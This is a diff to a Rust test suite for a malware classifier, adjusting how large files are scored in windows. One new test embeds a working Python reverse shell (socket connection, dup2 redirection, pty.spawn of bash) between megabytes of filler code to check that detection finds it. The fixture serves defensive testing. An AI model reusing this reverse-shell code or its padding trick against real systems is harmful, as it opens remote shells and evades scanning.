@@ -49,9 +49,15 @@ fn classify_scores_a_large_file_in_part_and_says_so_whatever_the_verdict() {
     let (rows, out) = classify_json(&[&big, &small]);
     assert!(out.status.success(), "{out:?}");
     assert_eq!(rows[0]["malicious"], false, "{}", rows[0]);
+    // The first 8 MiB in windows, and the last 1 MiB from its first line's start.
+    let size = std::fs::metadata(&big).unwrap().len();
+    let into_line = (size - (1 << 20)) % line.len() as u64;
+    let tail = (1 << 20) - (line.len() as u64 - into_line);
     assert_eq!(rows[0]["truncated"], true, "{}", rows[0]);
-    assert_eq!(rows[0]["scored_bytes"], 7 << 20);
-    assert_eq!(rows[0]["scored_tail_bytes"], 1 << 20);
+    assert_eq!(rows[0]["size"], size);
+    assert_eq!(rows[0]["scored_bytes"], 8 << 20);
+    assert_eq!(rows[0]["scored_tail_bytes"], tail, "{}", rows[0]);
+    assert_eq!(rows[0]["windows"], 10, "{}", rows[0]);
     assert!(rows[1].get("truncated").is_none(), "{}", rows[1]);
 
     // The table says so too, benign or not.
@@ -59,10 +65,47 @@ fn classify_scores_a_large_file_in_part_and_says_so_whatever_the_verdict() {
     let text = String::from_utf8(out.stdout).unwrap();
     let row = text.lines().find(|l| l.contains("big.py")).unwrap();
     assert!(row.contains("benign"), "{text}");
-    assert!(
-        row.contains("scored the first 7340032 and the last 1048576 bytes, each on its own"),
-        "{text}"
+    let part = format!(
+        "scored the first 8388608 and the last {tail} of {size} bytes, in 10 windows scored each on its own"
     );
+    assert!(row.contains(&part), "{text}");
+}
+
+#[test]
+fn classify_scores_a_long_file_in_windows_and_finds_code_in_its_middle() {
+    // A reverse shell with 1.5 MB of ordinary code on each side: a window holds it whole.
+    let dir = tempfile::tempdir().unwrap();
+    let settings = |from: usize, bytes: usize| {
+        let mut text = String::new();
+        let mut i = from;
+        while text.len() < bytes {
+            text.push_str(&format!(
+                "settings[\"option_{i}\"] = json.loads(os.environ.get(\"OPTION_{i}\", \"null\"))\n"
+            ));
+            i += 1;
+        }
+        text
+    };
+    let mut text = String::from("import json\nimport os\n\nsettings = {}\n");
+    text.push_str(&settings(0, 1_500_000));
+    text.push_str(
+        "import socket, pty\nsock = socket.create_connection((\"127.0.0.1\", 4444))\n\
+         for fd in (0, 1, 2):\n    os.dup2(sock.fileno(), fd)\npty.spawn(\"/bin/bash\")\n",
+    );
+    text.push_str(&settings(1_000_000, 1_500_000));
+    let middle = dir.path().join("middle.py");
+    std::fs::write(&middle, &text).unwrap();
+    let (rows, out) = classify_json(&[&middle]);
+    assert!(out.status.success(), "{out:?}");
+    assert_eq!(rows[0]["malicious"], true, "{}", rows[0]);
+    assert!(
+        rows[0]["reasons"].to_string().contains("dup2"),
+        "{}",
+        rows[0]
+    );
+    assert_eq!(rows[0]["truncated"], false, "{}", rows[0]);
+    assert_eq!(rows[0]["scored_bytes"], text.len());
+    assert_eq!(rows[0]["windows"], 3, "{}", rows[0]);
 }
 
 #[test]
@@ -88,7 +131,7 @@ fn classify_scores_the_end_of_a_large_file_too() {
     let (rows, out) = classify_json(&[&padded, &start]);
     assert!(out.status.success(), "{out:?}");
     assert_eq!(rows[0]["malicious"], true, "{}", rows[0]);
-    assert_eq!(rows[0]["scored_tail_bytes"], 1 << 20);
+    assert!(rows[0]["scored_tail_bytes"].as_u64().unwrap() > (1 << 20) - 200);
     let reasons = rows[0]["reasons"].to_string();
     assert!(reasons.contains("dup2"), "{reasons}");
     assert_eq!(rows[1]["malicious"], false, "{}", rows[1]);
